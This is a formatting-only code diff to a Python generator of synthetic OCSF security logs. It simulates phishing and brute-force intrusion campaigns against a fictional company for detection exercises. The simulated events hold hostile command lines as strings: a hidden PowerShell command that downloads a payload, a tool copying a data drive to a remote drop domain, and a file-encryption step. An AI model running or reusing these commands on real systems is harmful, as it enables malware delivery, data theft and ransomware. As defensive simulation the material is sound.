@@ -38,10 +38,15 @@ class Company:
         self.domain = f"{tenant}.example"
         net = rng.randrange(16, 240)
         self.hosts = [
-            (f"{short}-{'SRV' if n < 3 else 'PC'}{rng.randrange(100, 999)}{n}", f"10.{net}.0.{n + 10}")
+            (
+                f"{short}-{'SRV' if n < 3 else 'PC'}{rng.randrange(100, 999)}{n}",
+                f"10.{net}.0.{n + 10}",
+            )
             for n in range(12)
         ]
-        self.people = [f"{name}.{short.lower()}{rng.randrange(99)}" for name in rng.sample(_GIVEN, 8)]
+        self.people = [
+            f"{name}.{short.lower()}{rng.randrange(99)}" for name in rng.sample(_GIVEN, 8)
+        ]
         self.vendors = rng.sample(_VENDORS, 14)
 
 
@@ -168,7 +173,9 @@ def background(writer: OcsfWriter, spec: CampaignSpec, start: datetime) -> None:
             writer.http(time, host, name, ip, f"/v/{rng.randrange(50)}", _AGENT)
         elif chance < 0.85:
             image = _SYSTEM + rng.choice(_PROGRAMS)
-            writer.process(time, host, _SYSTEM + "services.exe", image, f"{image} -k {rng.randrange(9)}")
+            writer.process(
+                time, host, _SYSTEM + "services.exe", image, f"{image} -k {rng.randrange(9)}"
+            )
         elif chance < 0.93:
             vendor = rng.choice(company.vendors)
             path = f"C:\\Users\\{writer.person(host)}\\AppData\\Local\\{vendor}\\{vendor}.exe"
@@ -191,9 +198,13 @@ def rollout(writer: OcsfWriter, moment: datetime) -> None:
         time = moment + timedelta(minutes=writer.rng.randrange(600))
         path = f"C:\\Users\\{writer.person(host)}\\Downloads\\fieldnotes-setup.exe"
         writer.dns(time, host, "download.fieldnotes.example", "192.0.2.200")
-        writer.connection(time + timedelta(seconds=2), host, "download.fieldnotes.example", "192.0.2.200")
+        writer.connection(
+            time + timedelta(seconds=2), host, "download.fieldnotes.example", "192.0.2.200"
+        )
         writer.file(time + timedelta(seconds=9), host, path, digest)
-        writer.process(time + timedelta(seconds=30), host, "C:\\Windows\\explorer.exe", path, path, digest)
+        writer.process(
+            time + timedelta(seconds=30), host, "C:\\Windows\\explorer.exe", path, path, digest
+        )
 
 
 def intrusion(
@@ -203,9 +214,7 @@ def intrusion(
     return _phishing(writer, kit, start) if story == "phishing" else _remote(writer, kit, start)
 
 
-def _phishing(
-    writer: OcsfWriter, kit: Arsenal, start: datetime
-) -> list[tuple[IndicatorKind, str]]:
+def _phishing(writer: OcsfWriter, kit: Arsenal, start: datetime) -> list[tuple[IndicatorKind, str]]:
     rng, company = writer.rng, writer.company
     host, server = rng.randrange(3, len(company.hosts)), rng.randrange(3)
     user = writer.person(host)
@@ -220,7 +229,9 @@ def _phishing(
     lure = f"C:\\Users\\{user}\\Downloads\\{kit.lure}"
     writer.file(time, host, lure, kit.lure_hash)
     time += timedelta(seconds=rng.randrange(20, 60))
-    writer.process(time, host, office, shell, f"powershell -nop -w hidden -c iwr {url} -OutFile {payload}")
+    writer.process(
+        time, host, office, shell, f"powershell -nop -w hidden -c iwr {url} -OutFile {payload}"
+    )
     writer.finding(
         time + timedelta(seconds=2), host, "Office program starts an interpreter", "T1059.001", 4,
         process={"cmd_line": f"powershell iwr {url}", "name": "powershell.exe"},
@@ -255,12 +266,16 @@ def _phishing(
         process={"name": kit.payload, "cmd_line": f"{remote} --service {kit.service}", "pid": 7, "file": {"name": kit.payload, "path": remote, "type_id": 1, "hashes": [{"algorithm_id": 3, "value": kit.payload_hash}]}},
         actor={"process": {"name": "services.exe"}, "user": {"name": "SYSTEM"}},
     )  # fmt: skip
-    writer.finding(time + timedelta(seconds=12), server, "New service from a temp folder", "T1569.002", 4)
+    writer.finding(
+        time + timedelta(seconds=12), server, "New service from a temp folder", "T1569.002", 4
+    )
     time += timedelta(hours=rng.randrange(1, 4))
     tool = f"C:\\ProgramData\\{kit.tool[0]}"
     writer.process(time, server, remote, tool, f"{tool} copy D:\\Data remote:", kit.tool[1])
     writer.dns(time + timedelta(seconds=2), server, kit.drop_domain, kit.drop_address)
-    writer.connection(time + timedelta(seconds=3), server, kit.drop_domain, kit.drop_address, 900_000_000)
+    writer.connection(
+        time + timedelta(seconds=3), server, kit.drop_domain, kit.drop_address, 900_000_000
+    )
     writer.finding(time + timedelta(seconds=30), server, "Large upload", "T1567.002", 4)
     time += timedelta(minutes=rng.randrange(20, 60))
     writer.add(
@@ -271,7 +286,11 @@ def _phishing(
     )  # fmt: skip
     if writer.findings:
         attack = [{"technique": {"uid": "T1098.001"}}]
-        info = {"title": "Key made from a new address", "uid": f"{rng.getrandbits(64):x}", "attacks": attack}
+        info = {
+            "title": "Key made from a new address",
+            "uid": f"{rng.getrandbits(64):x}",
+            "attacks": attack,
+        }
         writer.add(
             time + timedelta(seconds=5), 2004, 1, None, finding_info=info, severity_id=4,
             evidences=[{"src_endpoint": {"ip": kit.cloud_address}}],
@@ -294,7 +313,15 @@ def _remote(writer: OcsfWriter, kit: Arsenal, start: datetime) -> list[tuple[Ind
     source: Mapping[str, str] = {"ip": kit.cloud_address}
     for n in range(25):
         user = {"name": "administrator", "type_id": 1}
-        writer.add(time + timedelta(seconds=3 * n), 3002, 1, server, user=user, src_endpoint=source, status_id=2 if n < 24 else 1)
+        writer.add(
+            time + timedelta(seconds=3 * n),
+            3002,
+            1,
+            server,
+            user=user,
+            src_endpoint=source,
+            status_id=2 if n < 24 else 1,
+        )
     writer.finding(
         time + timedelta(seconds=80), server, "Password guessing", "T1110.001", 4,
         evidences=[{"src_endpoint": dict(source)}],
@@ -307,7 +334,9 @@ def _remote(writer: OcsfWriter, kit: Arsenal, start: datetime) -> list[tuple[Ind
     writer.connection(time, server, kit.drop_domain, kit.drop_address, 5_000_000)
     writer.finding(time + timedelta(seconds=3), server, "Large upload", "T1048", 3)
     locker = f"C:\\Users\\Public\\{kit.payload}"
-    writer.process(time + timedelta(minutes=9), server, _SYSTEM + "cmd.exe", locker, locker, kit.payload_hash)
+    writer.process(
+        time + timedelta(minutes=9), server, _SYSTEM + "cmd.exe", locker, locker, kit.payload_hash
+    )
     writer.finding(time + timedelta(minutes=10), server, "Files are encrypted", "T1486", 5)
     del company
     return []
